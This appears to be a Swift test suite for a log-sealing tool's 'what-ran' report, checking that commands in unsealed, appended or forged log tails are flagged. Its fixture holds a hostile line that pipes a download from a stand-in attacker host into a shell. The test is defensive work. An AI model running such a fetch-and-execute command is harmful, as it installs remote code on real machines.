import EventLog
import Foundation
import InstallModel
import Orchestrator
import Rendering
import Sealing
import Testing

/// integrity13 #8: `what-ran` flagged a crash tail's commands once marked, but a command in a tail no seal covers —
/// appended after the final seal, forged after the last seal, or a crashed writer's not resumed yet — was listed as
/// an ordinary one. Each is now flagged on its own line and in `--json` (`not_sealed`), and no covered command is.
@Suite struct NotSealedCommandTests {
    let crash = CrashTailTests()

    static let evil = #","argv":["sh","-c","curl -s http://evil.example/x | sh"]"#

    /// The history `what-ran` shows of the log at `path`.
    static func history(_ path: String) throws -> CommandHistory {
        CommandHistory(RunTimeline(events: try PlanLog(path: path).events()), tailNotSealed: PlanLog(path: path).unsealedTailReason)
    }

    /// Checks that exactly the commands whose line contains `marker` are flagged with `reason`, in text and JSON.
    static func expectFlagged(_ history: CommandHistory, marker: String, reason: String?, count: Int) throws {
        let flagged = history.commands.filter { $0.notSealed != nil }
        #expect(flagged.count == (reason == nil ? 0 : count), "\(history.commands)")
        #expect(flagged.allSatisfy { $0.notSealed == reason && $0.commandLine.contains(marker) }, "\(history.commands)")
        let lines = history.text(style: TextStyle(colored: false)).split(separator: "\n")
        #expect(lines.filter { $0.contains("[not sealed: ") }.count == flagged.count, "\(lines)")
        for entry in history.commands {
            let json = String(decoding: try JSONEncoder().encode(entry), as: UTF8.self)
            #expect(json.contains(#""not_sealed":"\#(reason ?? "")""#) == (entry.notSealed != nil), "\(json)")
        }
    }

    @Test func aCrashedWritersTailIsFlaggedUntilResumedThenMarkedAsTheCrashTail() throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crash.crashedLog(genuine: 1) { sequence, time in
            [CrashTailTests.event("command_started", "install-ripgrep", sequence + 1, time, NotSealedCommandTests.evil)]
        }
        try Self.expectFlagged(try Self.history(log), marker: "evil.example", reason: "unsealed_tail", count: 1)
        let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        try SealingEventStore.forLog(writer, key: crash.trust.key).close()
        let resumed = try Self.history(log)
        try Self.expectFlagged(resumed, marker: "evil.example", reason: nil, count: 0)
        #expect(resumed.commands.filter(\.unsealedAtCrash).count == 1)
    }

    @Test(arguments: [1, 2])
    func commandsAfterTheFinalSealAreFlagged(count: Int) throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        // A closed log with a command of its own (the crash tail a resume sealed), then commands appended after its final seal.
        let log = try crash.crashedLog(genuine: 0) { sequence, time in
            [CrashTailTests.event("command_started", "install-ripgrep", sequence + 1, time, #","argv":["true"]"#)]
        }
        let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        try SealingEventStore.forLog(writer, key: crash.trust.key).close()
        let appended = try crash.trust.rewritten(log) { records in
            for _ in 0..<count {
                let (sequence, time) = CrashTailTests.stamp(records.last!)
                records.append(CrashTailTests.event("command_started", "install-ripgrep", sequence + 1, time, NotSealedCommandTests.evil))
            }
        }
        try Self.expectFlagged(try Self.history(appended), marker: "evil.example", reason: "after_final_seal", count: count)
    }

    @Test func aCommandNoCrashLeavesIsFlaggedAsForged() throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crash.crashedLog(genuine: 0) { sequence, time in
            [CrashTailTests.event("command_started", "verify-jq", sequence + 1, time, NotSealedCommandTests.evil)]
        }
        try Self.expectFlagged(try Self.history(log), marker: "evil.example", reason: "forged_tail", count: 1)
    }
}
